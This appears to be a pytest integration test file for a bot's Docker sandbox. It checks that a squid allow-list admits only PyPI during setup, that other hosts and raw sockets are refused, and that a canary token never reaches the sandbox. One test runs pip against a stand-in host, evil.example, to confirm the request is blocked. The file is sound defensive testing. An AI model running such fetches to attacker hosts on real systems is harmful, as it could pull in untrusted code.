"""The setup phase's egress through a real squid on a real internal Docker network: what the
allow-list lets through, what it refuses and records, what never gets out, and the kept
snapshots and package cache. Needs the Docker engine, the Python runner image, squid and the
package registries (PyPI) that these machines reach."""

from __future__ import annotations

import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import docker
import pytest

from bot.pipeline.dependencies import explain_failure
from bot.sandbox.base import Limits, SetupCache
from bot.sandbox.docker import RUNNER_IMAGE, DockerSandbox
from bot.sandbox.docker_setup import CACHE_LABEL, SCOPE_LABEL
from bot.sandbox.options import DockerOptions, load_ca_bundle
from tests.integration.docker_engine import docker_engine, tar_of

pytestmark = pytest.mark.docker

LABELS = {"forgebot.test": "test_egress_proxy", "forgebot.job": "egress"}
PYPI = ("pypi.org", "files.pythonhosted.org")
HOST_BUNDLE = Path("/etc/ssl/certs/ca-certificates.crt")
NETWORK = "forgebot-egress-test"


@pytest.fixture(scope="module")
def client() -> Iterator[docker.DockerClient]:
    if shutil.which("squid") is None and not Path("/usr/sbin/squid").exists():
        pytest.fail("squid is not installed (make deps installs Debian's squid)")
    with docker_engine([RUNNER_IMAGE], "forgebot.test=test_egress_proxy") as engine:
        yield engine
        for network in engine.networks.list(names=[NETWORK]):
            network.remove()


@pytest.fixture(scope="module")
def sandbox(client: docker.DockerClient) -> DockerSandbox:
    bundle = load_ca_bundle(HOST_BUNDLE) if HOST_BUNDLE.exists() else None
    options = DockerOptions(egress_network=NETWORK, egress_proxy="/usr/sbin/squid")
    return DockerSandbox(client, options, ca_bundle=bundle)


_tree = tar_of


FETCH = """
import sys, urllib.request
for url in sys.argv[1:]:
    try:
        with urllib.request.urlopen(url, timeout=20) as answer:
            print(url, "->", answer.status, len(answer.read()))
    except Exception as exc:
        print(url, "-> failed:", exc)
"""
RAW_SOCKET = """
import socket
try:
    socket.create_connection(("1.1.1.1", 443), timeout=5)
    print("raw socket: connected")
except OSError as exc:
    print("raw socket: refused:", exc)
"""


def test_allowed_hosts_pass_and_every_other_is_refused_and_recorded(
    sandbox: DockerSandbox,
) -> None:
    script = {"fetch.py": FETCH, "raw.py": RAW_SOCKET}
    made = sandbox.snapshot_setup(
        RUNNER_IMAGE, _tree(script),
        ["sh", "-c", "python3 fetch.py https://pypi.org/simple/six/ https://example.com/"
                     " http://neverssl.com/; python3 raw.py"],
        Limits(timeout_s=120), LABELS, egress=PYPI,
    )
    try:
        out = made.result.stdout
        assert "https://pypi.org/simple/six/ -> 200" in out, out + made.result.stderr
        assert "https://example.com/ -> failed" in out
        assert "http://neverssl.com/ -> failed: HTTP Error 403" in out
        assert "raw socket: refused" in out  # no route: the proxy is the only way out
        verdicts = {(r.host, r.allowed) for r in made.egress}
        assert ("pypi.org", True) in verdicts
        assert {("example.com", False), ("neverssl.com", False)} <= verdicts
        assert made.seconds > 0
    finally:
        if made.image:
            sandbox.remove_snapshot(made.image)


def test_a_setup_that_reaches_outside_the_list_fails_and_says_which_host(
    sandbox: DockerSandbox,
) -> None:
    made = sandbox.snapshot_setup(
        RUNNER_IMAGE, _tree({}),
        ["sh", "-c", "echo 'forgebot: step 1/1: install evil'; "
                     "python3 -m pip download --no-deps -d /tmp/x"
                     " --index-url https://evil.example/simple six"],
        Limits(timeout_s=120), LABELS, egress=PYPI,
    )

    assert made.image is None
    text = explain_failure(made, PYPI)
    assert "refused evil.example" in text
    assert "step “install evil”" in text
    assert "`sandbox.setup_egress`" in text


def test_pip_installs_through_the_proxy_and_the_test_phase_has_no_network(
    sandbox: DockerSandbox,
) -> None:
    made = sandbox.snapshot_setup(
        RUNNER_IMAGE, _tree({}),
        ["sh", "-c", "python3 -m pip install --user --no-warn-script-location six==1.16.0;"
                     " test -s /sandbox/ca/bundle.pem && echo bundle-present"],
        Limits(timeout_s=180), LABELS, egress=PYPI,
    )
    assert made.image is not None, made.result.stdout + made.result.stderr
    try:
        assert "Successfully installed six-1.16.0" in made.result.stdout
        assert "bundle-present" in made.result.stdout
        with sandbox.start(made.image, Limits(), LABELS) as session:
            session.put(_tree({"raw.py": RAW_SOCKET}))
            after = session.run(["sh", "-c", "python3 -c 'import six; print(six.__version__)';"
                                 " tail -n +3 /proc/net/dev | cut -d: -f1; env;"
                                 " ls /sandbox; python3 raw.py"], 60)
        lines = after.stdout.split()
        assert "1.16.0" in lines
        assert "eth0" not in lines and "lo" in lines
        assert "HTTPS_PROXY" not in after.stdout.upper()  # no proxy, and nothing to reach it
        assert "GOPROXY=off" in after.stdout
        assert "ca" not in lines  # the CA bundle was the setup's only
        assert "raw socket: refused" in after.stdout
    finally:
        sandbox.remove_snapshot(made.image)


def test_no_private_key_and_no_bot_environment_reach_the_setup(
    sandbox: DockerSandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FORGEBOT_FORGES__GITHUB__TOKEN", "ghp_canary_never_in_a_sandbox")
    made = sandbox.snapshot_setup(
        RUNNER_IMAGE, _tree({}),
        ["sh", "-c", "env; cat /sandbox/ca/bundle.pem; ls -a /sandbox"],
        Limits(timeout_s=60), LABELS, egress=PYPI,
    )
    try:
        seen = made.result.stdout
        assert "ghp_canary_never_in_a_sandbox" not in seen
        assert "PRIVATE KEY" not in seen
        assert "BEGIN CERTIFICATE" in seen
    finally:
        if made.image:
            sandbox.remove_snapshot(made.image)


def test_a_network_of_that_name_that_is_not_internal_is_refused(
    client: docker.DockerClient,
) -> None:
    name = "forgebot-egress-not-internal"
    network = client.networks.create(name, driver="bridge", labels=LABELS)
    try:
        sandbox = DockerSandbox(client, DockerOptions(egress_network=name))
        with pytest.raises(Exception, match="not internal"):
            sandbox.snapshot_setup(RUNNER_IMAGE, _tree({}), ["true"], Limits(timeout_s=30),
                                   LABELS, egress=PYPI)
    finally:
        network.remove()


def test_kept_snapshots_are_found_by_key_and_reaped_by_age_and_count(
    sandbox: DockerSandbox, client: docker.DockerClient,
) -> None:
    cache = SetupCache(key=f"test-{time.time()}", scope=f"egresstest{time.time_ns()}")
    assert sandbox.find_snapshot(RUNNER_IMAGE, cache) is None

    made = sandbox.snapshot_setup(
        RUNNER_IMAGE, _tree({}),
        ["sh", "-c", 'echo "$PIP_CACHE_DIR" > /cache/made-by-first; mkdir -p /deps/x'],
        Limits(timeout_s=60), LABELS, egress=PYPI, cache=cache,
    )
    assert made.image is not None, made.result.stdout + made.result.stderr
    # The package cache outlives the setup: the repository's next setup finds it.
    second = sandbox.snapshot_setup(
        RUNNER_IMAGE, _tree({}), ["sh", "-c", "cat /cache/made-by-first"],
        Limits(timeout_s=60), LABELS, cache=SetupCache(key=cache.key + "-2", scope=cache.scope),
    )
    assert second.result.stdout == "/cache/pip\n"

    found = sandbox.find_snapshot(RUNNER_IMAGE, cache)
    assert found is not None and found.image == made.image
    labels = client.images.get(made.image).labels
    assert labels[CACHE_LABEL] == "1" and labels[SCOPE_LABEL] == cache.scope
    assert labels.get("forgebot.job") == ""  # kept: it outlives the job that made it
    other = SetupCache(key=cache.key + "-changed", scope=cache.scope)
    assert sandbox.find_snapshot(RUNNER_IMAGE, other) is None

    # Other kept snapshots on this engine may be older: only this test's are looked at.
    sandbox.reap_setup_cache(max_age_s=3600, keep_per_repo=100)
    assert sandbox.find_snapshot(RUNNER_IMAGE, cache) is not None  # young and few: kept
    time.sleep(1.1)
    removed = sandbox.reap_setup_cache(max_age_s=3600, keep_per_repo=0)
    assert removed >= 2  # both of this test's snapshots
    assert sandbox.find_snapshot(RUNNER_IMAGE, cache) is None
    client.volumes.get(f"forgebot-cache-{cache.scope}").remove(force=True)
